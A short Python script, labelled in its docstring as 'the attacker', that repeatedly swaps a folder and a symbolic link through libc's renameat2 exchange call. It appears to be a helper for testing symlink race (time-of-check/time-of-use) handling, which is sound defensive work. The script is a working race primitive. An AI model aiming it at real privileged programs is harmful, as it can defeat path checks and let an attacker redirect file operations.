"""The attacker: exchanges a folder and a link for each other as fast as it can, until it is killed.

Arguments: folder, link. Both change places in one step, so that both names always exist.
"""
import ctypes
import os
import sys

libc = ctypes.CDLL(None)
folder, link = (os.fsencode(path) for path in sys.argv[1:3])
print("ready", flush=True)
while True:
    libc.renameat2(-100, folder, -100, link, 2)
